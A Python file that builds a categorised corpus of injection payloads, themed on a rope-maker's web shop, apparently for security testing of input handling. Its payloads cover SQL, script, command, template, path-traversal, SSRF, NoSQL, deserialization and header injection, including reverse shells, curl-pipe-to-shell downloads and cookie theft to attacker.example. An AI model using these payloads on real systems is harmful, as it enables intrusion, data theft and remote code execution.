#!/usr/bin/env python3
"""Attack corpus for ropewalk (traditional rope & cordage maker's shop). Stdlib only."""
import json, os, random

SEED = 26502
HERE = os.path.dirname(os.path.abspath(__file__))


def block(text):
    out = []
    for ln in text.strip("\n").split("\n"):
        if not ln.strip():
            continue
        cls, val = ln.split("@@", 1)
        out.append((cls.strip(), val.replace("␍", "\r").replace("␊", "\n").replace("⇥", "\t")))
    return out


A = {}

A["sqli"] = block(r'''
boolean@@manila' OR '1'='1
boolean@@12mm hemp' OR 1=1-- 
boolean@@RW-20931' or 'a'='a
boolean@@tarred marline') OR ('x'='x
boolean@@HMP-12-3S' AND 1=1 AND 'q'='q
boolean@@HMP-12-3S' AND 1=2 AND 'q'='q
boolean@@3 strand hemp%' AND SUBSTRING(@@version,1,1)='8' AND '%'='
boolean@@manila" OR ""="
boolean@@24-117 OR 2>1
boolean@@polyester' || 1=1 #
union@@hemp' UNION SELECT username,password_hash,NULL FROM customers-- -
union@@rope' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- 
union@@-1 UNION SELECT 1,concat(email,0x3a,password),3,4 FROM users#
union@@RW-20931' union select sku,price_trade,null from wholesale_prices where '1'='1
union@@12mm') UNION SELECT group_concat(column_name),2 FROM information_schema.columns WHERE table_name='orders'-- 
union@@0 UNION SELECT card_last4, card_token, billing_name FROM payments LIMIT 5
union@@fid' UniOn SeLeCt 1,version(),user(),database()-- x
union@@manila'/**/UNION/**/SELECT/**/api_key,2/**/FROM/**/settings--/**/
union@@x' UNION SELECT name, sql FROM sqlite_master-- 
union@@deadeye' union select 1,@@hostname,@@datadir,4 -- -
union@@hemp' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -
union@@-9' UNI%0bON SEL%0bECT 1,login,pass FROM staff-- -
stacked@@Batch 24-118 PASS'; DROP TABLE qa_logs;-- 
stacked@@RW-20944'; UPDATE orders SET total=0 WHERE id=20944;--
stacked@@note'; INSERT INTO admins(email,pw) VALUES('rig@attacker.example','x');-- 
stacked@@1; DELETE FROM price_list WHERE 1=1
stacked@@hemp'; EXEC xp_cmdshell 'ping 203.0.113.9';--
stacked@@x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--
stacked@@42; ALTER USER shop_app WITH SUPERUSER; --
stacked@@'; GRANT ALL PRIVILEGES ON *.* TO 'rw'@'%' IDENTIFIED BY 'pw';#
time@@manila' AND SLEEP(6)-- -
time@@RW-20931' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- x
time@@12'; WAITFOR DELAY '0:0:7'--
time@@1) AND pg_sleep(5) IS NULL--
time@@hemp' || (SELECT '' FROM pg_sleep(10)) || '
time@@x' AND IF(ASCII(SUBSTR((SELECT pw FROM admins LIMIT 1),1,1))>77,SLEEP(4),0)-- -
time@@sisal' AND 1=BENCHMARK(9000000,SHA1('rope'))#
time@@24-119 AND 3312=DBMS_PIPE.RECEIVE_MESSAGE('a',6)
time@@nylon') AND (SELECT 4 FROM pg_sleep(8))::text='4
time@@rope'+(select*from(select(sleep(5)))x)+'
error@@fid' AND extractvalue(1,concat(0x7e,(SELECT password FROM users LIMIT 1)))-- 
error@@x' AND updatexml(1,concat(0x7e,database(),0x7e),1)#
error@@1 AND 1=CONVERT(int,(SELECT TOP 1 email FROM customers))
error@@manila' AND CAST((SELECT current_user) AS int)=1--
error@@hemp' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- 
error@@12mm' AND exp(~(select*from(select user())a))-- -
orderby@@price ORDER BY 9-- 
orderby@@sku,(CASE WHEN (SELECT substr(pw,1,1) FROM admins)='a' THEN price ELSE sku END)
orderby@@diameter_mm desc, (select sleep(3))
orderby@@(SELECT 1 FROM dual WHERE 1=(SELECT 1 FROM admins WHERE role='owner'))
orderby@@name;SELECT pg_read_file('/etc/passwd')--
auth@@admin'-- 
auth@@bosun@ropewalk-shop.example'#
auth@@' OR username LIKE '%admin%'-- 
auth@@x' OR 'a'='a' LIMIT 1 OFFSET 1-- 
auth@@') or true--
comment-space@@hemp'/**/or/**/1/**/like/**/1--
comment-space@@-1'/*rope*/union/*walk*/select/*x*/1,2,3--+
comment-space@@1/**/AND/**/(SELECT/**/COUNT(*)/**/FROM/**/admins)>0
case-mix@@ManIla' oR 'k'='K
case-mix@@0' uNiOn aLl sElEcT null,PaSsWoRd fRoM uSeRs-- 
whitespace@@hemp'%09or%091=1%23
whitespace@@12'%0aAND%0a1=1%0a--%0a
whitespace@@x'⇥OR⇥'1'⇥=⇥'1
whitespace@@RW'␊UNION␊SELECT␊1,2--
file-ops@@x' UNION SELECT LOAD_FILE('/etc/passwd'),2-- 
file-ops@@x' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/img/r.php'-- 
oob@@rope' AND LOAD_FILE(CONCAT('\\\\',(SELECT pw FROM admins LIMIT 1),'.attacker.example\\a'))-- 
oob@@1; SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--
oob@@x'; exec master..xp_dirtree '//sqli.attacker.example/a';--
second-order@@Name: Ann O'Hara', is_admin=1, notes='
second-order@@Company: Ropers Ltd'); UPDATE users SET role='admin' WHERE email='me@attacker.example';--
json@@{"sku":"HMP-12-3S' OR '1'='1"}
double-url@@hemp%2527%2520OR%25201%253D1--%2520
unicode-quote@@manila%u0027 OR 1=1--
fullwidth@@hemp＇ ＯＲ １＝１－－
overlong@@hemp%c0%a7 or 1=1-- 
hex@@1 AND password=0x726f7065 OR 1=1
''')

A["xss"] = block(r'''
script@@Great splice guide!<script>fetch('https://attacker.example/c?'+document.cookie)</script>
script@@Lovely hemp <script src=//attacker.example/r.js></script>
script@@<ScRiPt>new Image().src='//203.0.113.7/?k='+localStorage.token</sCrIpT>
script@@</textarea><script>alert(document.domain)</script>
script@@</title><script>location='//attacker.example/p?'+document.cookie</script>
script@@Re: tarred hemp</script><script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>
handler@@Photo of my long splice <img src=x onerror=alert(1)>
handler@@<img src="rope.jpg" onerror="this.src='//attacker.example/i?c='+document.cookie">
handler@@<svg onload=alert`ropewalk`>
handler@@<svg/onload=fetch('//attacker.example/'+btoa(document.body.innerHTML))>
handler@@<body onload=document.forms[0].action='//attacker.example/steal'>
handler@@<details open ontoggle=confirm(document.domain)>splice notes</details>
handler@@<input autofocus onfocus=alert(origin) value="12mm manila">
handler@@<video><source onerror="alert(1)"></video>
handler@@<marquee onstart=alert(1)>SALE 30% off hemp</marquee>
handler@@<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
handler@@<div onmouseover="alert('knot')" style="position:fixed;inset:0">hover me</div>
handler@@<audio src=x onerror=import('//attacker.example/m.js')>
handler@@<object data=javascript:alert(1)>
handler@@<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>
handler@@<img src=1 oNeRrOr=alert(1)>
handler@@<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
handler@@<svg><animate onbegin=alert(1) attributeName=x dur=1s>
handler@@<x contenteditable onblur=alert(1)>lose focus</x>
handler@@<img src=x:x onerror="window['al'+'ert'](1)">
handler@@<style onload=alert(1)></style>
handler@@<form><button formaction=javascript:alert(1)>Check stock</button></form>
handler@@<select autofocus onfocus=alert(1)><option>12mm</option></select>
handler@@<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>
handler@@<svg><set attributeName=onmouseover to=alert(1)></set></svg>
attr-break@@buff" onmouseover="alert(document.cookie)
attr-break@@navy' autofocus onfocus='alert(1)
attr-break@@12mm" style="animation-name:spin" onanimationstart="alert(1)
attr-break@@"><img src=x onerror=prompt(1)>
attr-break@@'><svg onload=alert(1)>
attr-break@@" accesskey="x" onclick="alert(1)" x="
attr-break@@hemp"/><script>alert(1)</script>
js-context@@';alert(String.fromCharCode(88,83,83));//
js-context@@"-alert(1)-"
js-context@@\';alert(document.cookie);//
js-context@@</script><img src=x onerror=alert(1)>
js-context@@${alert(document.domain)}
js-context@@');fetch('//attacker.example/?'+document.cookie);('
url-scheme@@javascript:alert(document.cookie)
url-scheme@@<a href="javascript:fetch('//attacker.example/'+document.cookie)">Download splicing PDF</a>
url-scheme@@<a href="JaVaScRiPt:alert(1)">RW-SPL-07.pdf</a>
url-scheme@@<a href="java&#x09;script:alert(1)">tracking link</a>
url-scheme@@<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">invoice</a>
url-scheme@@<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>
url-scheme@@<a href="data:text/html,<script>alert(1)</script>">price list</a>
url-scheme@@[Splice video](javascript:alert(document.cookie))
url-scheme@@[photo](javascript&#58;alert(1))
url-scheme@@<embed src="javascript:alert(1)">
url-scheme@@<base href="//attacker.example/">
url-scheme@@<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
url-scheme@@<link rel=import href=//attacker.example/x.html>
url-scheme@@<form action=//attacker.example/login method=post><input name=password placeholder="Re-enter password"></form>
encoded@@%3Cscript%3Ealert(1)%3C%2Fscript%3E
encoded@@%253Csvg%2520onload%253Dalert(1)%253E
encoded@@&lt;img src=x onerror=alert(1)&gt;
encoded@@\u003cimg src=x onerror=alert(1)\u003e
encoded@@＜script＞alert(1)＜/script＞
encoded@@%u003Cscript%u003Ealert(1)%u003C/script%u003E
encoded@@<scr<script>ipt>alert(1)</scr</script>ipt>
encoded@@<img/src="x"/onerror="&#x61;lert(1)">
encoded@@<svg><script>&#x61;&#x6c;&#x65;&#x72;&#x74;(1)</script></svg>
encoded@@%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
dom@@#<img src=x onerror=alert(1)>
dom@@?name=<svg onload=alert(1)>
dom@@{{constructor.constructor('alert(1)')()}}
dom@@<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>
dom@@<x v-html="'<img src=x onerror=alert(1)>'"></x>
mxss@@<noscript><p title="</noscript><img src=x onerror=alert(1)>">
mxss@@<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
css@@<div style="background:url(javascript:alert(1))">sale</div>
css@@<style>@import'//attacker.example/x.css';</style>
css@@<div style="width:expression(alert(1))">old IE</div>
svg-upload@@<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>
''')

A["cmdi"] = block(r'''
separator@@12mm manila; cat /etc/passwd
separator@@RW-SPL-07.pdf; id
separator@@label.png;curl http://attacker.example/s.sh|sh
separator@@batch-24-118 && wget -qO- 203.0.113.5/x | bash
separator@@invoice.pdf | nc 198.51.100.4 4444 -e /bin/sh
separator@@hemp || ping -c 5 attacker.example
separator@@report.csv & whoami
separator@@qa_log.txt;rm -rf /var/www/uploads
separator@@coil.jpg; echo c3NoLXJzYSBBQUFB | base64 -d >> ~/.ssh/authorized_keys
separator@@24-119|id>/tmp/o
separator@@splice.mp4 ; python3 -c 'import socket,os;s=socket.create_connection(("203.0.113.8",9001));os.dup2(s.fileno(),1);os.system("sh")'
separator@@RW-20931; php -r '$s=fsockopen("198.51.100.12",443);exec("sh <&3 >&3 2>&3");'
separator@@x; perl -e 'use Socket;print "owned"'
separator@@thumb.png;touch /tmp/ropewalk_pwned
separator@@price-list.xlsx && crontab -l | { cat; echo "* * * * * curl attacker.example/c|sh"; } | crontab -
separator@@label;ls -la /home
separator@@photo.jpeg & type C:\Windows\win.ini
separator@@order.pdf & net user rigger P4ss! /add
separator@@q.csv | powershell -nop -c "iwr http://attacker.example/a.ps1|iex"
separator@@x; bash -i >& /dev/tcp/203.0.113.44/8080 0>&1
separator@@file.pdf; tar czf - /etc | curl -T - http://attacker.example/up
separator@@manila%3Bid
separator@@hemp%26%26id
separator@@12mm%7Ccat%20/etc/shadow
subshell@@$(id)
subshell@@`whoami`
subshell@@Batch $(curl -s attacker.example/b.sh | sh) notes
subshell@@coil-`uname -a`.jpg
subshell@@RW-$(sleep 9)
subshell@@$(cat /etc/passwd | base64 -w0 | xargs -I{} curl attacker.example/{})
subshell@@hemp_$(nslookup $(whoami).dns.attacker.example).png
subshell@@${IFS}id
subshell@@$((1+1))$(id)
newline@@label.png␊id
newline@@24-120␊curl attacker.example/x -o /tmp/x␊chmod +x /tmp/x␊/tmp/x
newline@@invoice%0aid
newline@@x%0Acat%20/etc/hosts
newline@@report.txt␍␊whoami
obfuscation@@;c'a't /e't'c/pa'ss'wd
obfuscation@@;c\at /et\c/pas\swd
obfuscation@@;/???/?at /???/p?ss??
obfuscation@@;cat${IFS}/etc/passwd
obfuscation@@|{cat,/etc/passwd}
obfuscation@@;$'\x69\x64'
obfuscation@@;a=i;b=d;$a$b
obfuscation@@;w$@hoami
obfuscation@@;cat$IFS$9/etc/group
obfuscation@@;echo aWQ=|base64 -d|sh
obfuscation@@;/bin/c?t /etc/pa*wd
obfuscation@@;who""ami
obfuscation@@;x=$'\143\141\164';$x /etc/passwd
obfuscation@@&& (c""md /c who^ami)
obfuscation@@| c^m^d /c "dir C:\"
obfuscation@@;$(printf '\x63\x61\x74') /etc/passwd
obfuscation@@;tr 'a-z' 'n-za-m' <<< 'vq' | sh
obfuscation@@;{wget,-qO-,attacker.example/p}|sh
blind@@12mm; sleep 10
blind@@x | ping -n 11 127.0.0.1
blind@@hemp && timeout 7 sleep 30
blind@@manila; nslookup cmdi.attacker.example
blind@@`dig +short $(hostname).attacker.example`
blind@@x; curl -d @/etc/passwd http://attacker.example/c
argument@@-o /var/www/html/shell.php http://attacker.example/shell.txt
argument@@--output=/etc/cron.d/x
argument@@-exec id ;
argument@@--use-compress-program=sh -c id
argument@@ -oProxyCommand=curl${IFS}attacker.example/x|sh
argument@@--checkpoint=1 --checkpoint-action=exec=sh shell.sh
argument@@-e sh -c 'id'
imagemagick@@push graphic-context␊viewbox 0 0 640 480␊fill 'url(https://attacker.example/x.png"|id > /tmp/m")'␊pop graphic-context
imagemagick@@coil.png" ; curl attacker.example/i | sh ; echo "
imagemagick@@|convert label:@/etc/passwd /tmp/x.png
mail-cmd@@skipper@boatmail.example -X/var/www/html/x.php -OQueueDirectory=/tmp
mail-cmd@@ann@example.org -fann@example.org -be ${run{/bin/sh -c "id > /tmp/p"}}
''')

A["traversal"] = block(r'''
dotdot@@../../../../etc/passwd
dotdot@@../../../etc/shadow
dotdot@@splicing/../../../../../etc/hosts
dotdot@@RW-SPL-07.pdf/../../../../proc/self/environ
dotdot@@../../../../var/www/ropewalk/.env
dotdot@@../../config/database.yml
dotdot@@../../../../home/shop/.ssh/id_rsa
dotdot@@invoices/2024/../../../../../etc/nginx/nginx.conf
dotdot@@../../../../proc/self/cmdline
dotdot@@images/coils/../../../../../root/.bash_history
dotdot@@../../../../../../var/log/nginx/access.log
dotdot@@price_lists/v7.csv/../../../app/settings.py
dotdot@@../../../../etc/passwd%00.pdf
dotdot@@../../../../etc/passwd\u0000.jpg
windows@@..\..\..\..\windows\win.ini
windows@@..\\..\\..\\boot.ini
windows@@labels\..\..\..\inetpub\wwwroot\web.config
windows@@C:\Windows\System32\drivers\etc\hosts
windows@@..%5c..%5c..%5cwindows%5csystem.ini
windows@@\\198.51.100.3\share\rope.pdf
absolute@@/etc/passwd
absolute@@/proc/self/fd/3
absolute@@file:///etc/passwd
absolute@@/var/run/secrets/kubernetes.io/serviceaccount/token
encoded@@%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
encoded@@%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow
encoded@@..%2f..%2f..%2f..%2fapp%2f.env
encoded@@%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd
encoded@@..%252f..%252f..%252fetc%252fhosts
encoded@@..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
encoded@@..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini
encoded@@%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
encoded@@．．／．．／．．／etc／passwd
encoded@@..%e0%80%af..%e0%80%afetc%e0%80%afpasswd
filter-bypass@@....//....//....//etc/passwd
filter-bypass@@..././..././..././etc/passwd
filter-bypass@@....\/....\/....\/etc/passwd
filter-bypass@@/var/www/ropewalk/static/../../../../etc/passwd
filter-bypass@@..;/..;/..;/WEB-INF/web.xml
filter-bypass@@/static/..%2f..%2f..%2fWEB-INF/classes/application.properties
filter-bypass@@.../.../.../etc/passwd
wrapper@@php://filter/convert.base64-encode/resource=../config.php
wrapper@@php://filter/read=string.rot13/resource=index.php
wrapper@@zip://uploads/coil.zip%23shell.php
wrapper@@phar://uploads/label.jpg/x.php
''')

A["ssrf"] = block(r'''
metadata@@http://169.254.169.254/latest/meta-data/iam/security-credentials/
metadata@@http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
metadata@@http://metadata.google.internal/computeMetadata/v1/?recursive=true
metadata@@http://169.254.169.254/metadata/instance?api-version=2021-02-01
metadata@@http://[fd00:ec2::254]/latest/meta-data/
metadata@@http://169.254.170.2/v2/credentials/
metadata@@http://100.100.100.200/latest/meta-data/ram/security-credentials/
loopback@@http://127.0.0.1:8080/admin/orders/export
loopback@@http://localhost:6379/
loopback@@http://localhost/server-status
loopback@@https://127.0.0.1:9200/_cat/indices
loopback@@http://0.0.0.0:2375/containers/json
loopback@@http://[::1]:8500/v1/agent/self
loopback@@http://[::ffff:127.0.0.1]/admin
internal@@http://10.0.0.12:8080/actuator/env
internal@@http://192.168.1.1/cgi-bin/luci
internal@@http://172.17.0.1:2379/v2/keys/?recursive=true
internal@@http://payments.internal/api/v1/refunds
internal@@http://erp-db:5432/
internal@@http://kubernetes.default.svc/api/v1/namespaces/default/secrets
internal@@http://jenkins.ropewalk.local:8080/script
alt-ip@@http://2130706433/admin
alt-ip@@http://0x7f000001/
alt-ip@@http://017700000001:8080/
alt-ip@@http://127.1/admin
alt-ip@@http://0177.0.0.1/
alt-ip@@http://0xA9FEA9FE/latest/meta-data/
alt-ip@@http://2852039166/latest/user-data
alt-ip@@http://169.254.43518/latest/meta-data/
alt-ip@@http://①②⑦.⓪.⓪.①/
parser-confusion@@http://attacker.example@127.0.0.1/admin
parser-confusion@@http://127.0.0.1#@attacker.example/
parser-confusion@@http://attacker.example\@169.254.169.254/
parser-confusion@@http://localhost%2523@attacker.example/
parser-confusion@@http://169.254.169.254%2f@ropewalk-shop.example/
parser-confusion@@https://ropewalk-shop.example.attacker.example/redirect?to=http://127.0.0.1:8080/
redirect@@https://attacker.example/302?u=http://169.254.169.254/latest/meta-data/
redirect@@http://r.attacker.example/?next=gopher://127.0.0.1:6379/_FLUSHALL
scheme@@gopher://127.0.0.1:6379/_SET%20x%20%22*/1%20*%20*%20*%20*%20curl%20attacker.example|sh%22%0d%0aCONFIG%20SET%20dir%20/var/spool/cron%0d%0aSAVE
scheme@@gopher://localhost:25/_HELO%20x%0d%0aMAIL%20FROM:<a@attacker.example>
scheme@@dict://127.0.0.1:11211/stats
scheme@@file:///proc/net/arp
scheme@@file://localhost/proc/self/environ
scheme@@ldap://127.0.0.1:389/dc=ropewalk
scheme@@ftp://10.0.0.5/backups/orders.sql
scheme@@jar:http://attacker.example/x.jar!/
scheme@@netdoc:///etc/hosts
embedded@@Supplier logo URL: http://169.254.169.254/latest/user-data
embedded@@<img src="http://127.0.0.1:8080/admin/delete?sku=ALL">
embedded@@{"webhook_url":"http://10.1.2.3:8000/internal/flush"}
''')

A["code"] = block(r'''
ssti-jinja@@Hi {{ config.items() }}
ssti-jinja@@{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
ssti-jinja@@Dear {{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja@@{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}
ssti-jinja@@{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}
ssti-jinja@@{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
ssti-jinja@@{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}
ssti-jinja@@{{ namespace.__init__.__globals__.os.environ }}
ssti-twig@@{{ _self.env.registerUndefinedFilterCallback("exec") }}{{ _self.env.getFilter("id") }}
ssti-twig@@{{ ['id']|filter('system') }}
ssti-twig@@{{ ['cat /etc/passwd']|map('passthru')|join }}
ssti-freemarker@@<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
ssti-freemarker@@${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["id"]).start()}
ssti-velocity@@#set($r=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$r
ssti-erb@@<%= `id` %>
ssti-erb@@<%= File.read('/etc/passwd') %>
ssti-erb@@<%= system("curl attacker.example/e|sh") %>
ssti-smarty@@{system('id')}
ssti-smarty@@{php}echo `id`;{/php}
ssti-handlebars@@{{#with "s" as |string|}}{{#with (string.sub.apply 0 "constructor")}}{{this "return process.mainModule.require('child_process').execSync('id')"}}{{/with}}{{/with}}
ssti-pug@@#{global.process.mainModule.require('child_process').execSync('id')}
ssti-mako@@${__import__('os').popen('id').read()}
ssti-tornado@@{% import os %}{{ os.popen('whoami').read() }}
ssti-thymeleaf@@__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
el-spring@@${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}
el-spring@@#{T(java.lang.System).getenv()}
el-spring@@*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
el-java@@${applicationScope}
el-java@@${pageContext.request.getSession().getServletContext()}
el-ognl@@%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
el-ognl@@${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
el-mvel@@@{java.lang.Runtime.getRuntime().exec("id")}
eval-php@@<?php system($_GET['c']); ?>
eval-php@@<?= passthru('id') ?>
eval-php@@";system('id');//
eval-php@@${@print(md5(31337))}
eval-php@@assert(base64_decode('c3lzdGVtKCdpZCcpOw=='))
eval-php@@preg_replace('/.*/e','system("id")','x')
eval-python@@__import__('os').system('id')
eval-python@@eval(compile('import os;os.system("id")','x','exec'))
eval-python@@[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')
eval-python@@exec("import subprocess;subprocess.run(['sh','-c','id'])")
eval-node@@require('child_process').execSync('cat /etc/passwd').toString()
eval-node@@process.mainModule.require('child_process').exec('curl attacker.example/n|sh')
eval-node@@this.constructor.constructor('return process')().exit()
eval-node@@global.process.binding('spawn_sync')
eval-ruby@@#{`id`}
eval-ruby@@Kernel.exec('id')
eval-ruby@@eval("system('id')")
log4shell@@${jndi:ldap://attacker.example:1389/a}
log4shell@@Batch 24-121 note ${jndi:rmi://203.0.113.66:1099/obj}
log4shell@@${${lower:j}ndi:${lower:l}dap://attacker.example/x}
log4shell@@${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.9/z}
log4shell@@${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}
log4shell@@${j${k8s:k5:-ND}i:ldap://attacker.example/k}
log4shell@@${jn${upper:d}i:ldaps://attacker.example/q}
log4shell@@User-Agent note: ${jndi:${lower:L}DAP://x.attacker.example/a}
log4shell@@%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D
proto-pollution@@{"__proto__":{"isAdmin":true}}
proto-pollution@@{"constructor":{"prototype":{"role":"owner"}}}
proto-pollution@@__proto__[discount]=100
proto-pollution@@constructor[prototype][shell]=/bin/sh
proto-pollution@@{"sku":"HMP-12","__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');x"}}
proto-pollution@@?__proto__.toString=1
csv-formula@@=cmd|' /C calc'!A0
csv-formula@@=HYPERLINK("http://attacker.example/?d="&A1&B1,"View invoice")
csv-formula@@+SUM(1+1)*cmd|' /C powershell iwr attacker.example/x'!A1
csv-formula@@-2+3+cmd|' /C notepad'!'A1'
csv-formula@@@SUM(1+9)*cmd|' /C calc'!A0
csv-formula@@=IMPORTXML(CONCAT("http://attacker.example/?",A2),"//a")
csv-formula@@=WEBSERVICE("http://attacker.example/"&B2)
csv-formula@@HMP-12-3S,"=DDE(""cmd"";""/C calc"";""x"")",2.95
csv-formula@@	=1+1+cmd|'/c whoami'!A1
xxe@@<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><note>&x;</note></order>
xxe@@<!DOCTYPE q [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><quote/>
xxe@@<?xml version="1.0"?><!DOCTYPE r [<!ENTITY s SYSTEM "http://169.254.169.254/latest/meta-data/">]><rope>&s;</rope>
xxe@@<!DOCTYPE x [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/etc/hosts"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM 'http://attacker.example/?%a;'>">%b;%c;]>
xxe@@<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
xxe@@<!DOCTYPE lolz [<!ENTITY l "rope"><!ENTITY l2 "&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;"><!ENTITY l3 "&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;">]><a>&l3;</a>
deserialization@@O:8:"Basket":1:{s:4:"file";s:11:"/etc/passwd";}
deserialization@@a:1:{i:0;O:14:"GuzzleHttp\Psr7\FnStream":1:{s:33:"_fn_close";s:6:"system";}}
deserialization@@rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==
deserialization@@!!python/object/apply:os.system ["curl attacker.example/y|sh"]
deserialization@@!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
deserialization@@{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}
deserialization@@{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
deserialization@@cos␊system␊(S'id'␊tR.
deserialization@@{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
''')

A["nosqli"] = block(r'''
operator@@{"$ne": null}
operator@@{"$gt": ""}
operator@@{"email": "bosun@ropewalk-shop.example", "password": {"$ne": "x"}}
operator@@{"sku": {"$regex": "^HMP"}, "price_trade": {"$lt": 0.01}}
operator@@{"username": {"$in": ["admin", "root", "owner"]}, "password": {"$gt": ""}}
operator@@{"$or": [{"role": "admin"}, {"_id": {"$exists": true}}]}
operator@@{"order_id": {"$nin": []}}
query-string@@username[$ne]=x&password[$ne]=x
query-string@@sku[$regex]=.*&price[$gt]=0
query-string@@email[$regex]=^a.*&password[$exists]=true
query-string@@login[$gt]=&pass[$gt]=
query-string@@batch[%24ne]=null
where@@{"$where": "sleep(5000) || true"}
where@@{"$where": "this.password.match(/^a/) != null"}
where@@'; return db.users.find(); var x='
where@@manila'; while(true){}; var r='
where@@1'; return this.role == 'admin' || '1'=='1
where@@{"$where":"function(){return (typeof process!=='undefined')}"}
js-injection@@0;return true
js-injection@@' || 'a'=='a
aggregation@@[{"$lookup": {"from": "admins", "localField": "x", "foreignField": "x", "as": "leak"}}]
aggregation@@{"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}
aggregation@@{"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}
regex@@{"email": {"$regex": ".*", "$options": "si"}}
regex@@{"name": {"$regex": "(a+)+$"}}
couch@@{"selector": {"_id": {"$gt": null}}, "limit": 10000}
redis@@hemp␍␊FLUSHALL␍␊
''')

A["crlf"] = block(r'''
log-forging@@12mm manila␊2024-03-14 09:00:01 INFO admin login succeeded user=bosun ip=10.0.0.2
log-forging@@Batch 24-118 PASS␊[QA] Batch 24-128 released by K. O'Neill
log-forging@@coil%0a2024-04-01T10:00:00Z level=info msg="refund approved" order=RW-20931 amount=1200
log-forging@@hemp%0d%0a[ERROR] payment gateway key rotated, new key=sk_test_FAKE
log-forging@@RW-20944␍␊127.0.0.1 - admin [01/Apr/2024:10:00:00 +0000] "GET /admin/export HTTP/1.1" 200 512
log-forging@@x␊[WARN] QA override: batch 24-130 marked PASS
header-injection@@en-GB%0d%0aSet-Cookie:%20session=attacker-fixed-id;%20Path=/
header-injection@@/thanks%0d%0aLocation:%20https://attacker.example/login
header-injection@@GBP␍␊X-Forwarded-Host: attacker.example
header-injection@@utf-8%0d%0aContent-Security-Policy:%20script-src%20*
header-injection@@RW-SPL-07.pdf%0d%0aContent-Type:%20text/html
header-injection@@de%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1
header-injection@@%0aX-Accel-Redirect: /internal/orders.csv
header-injection@@/track?o=1%0D%0ARefresh:%200;url=//attacker.example/
response-splitting@@/en/%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
response-splitting@@gbp%0d%0a%0d%0a<html><body>Your session expired, <a href=//attacker.example>log in</a></body></html>
response-splitting@@x␍␊␍␊<script>document.location='//attacker.example/'+document.cookie</script>
mail-header@@Ann Penrose␊Bcc: list@attacker.example
mail-header@@ann@boatmail.example%0aCc:%20everyone@attacker.example
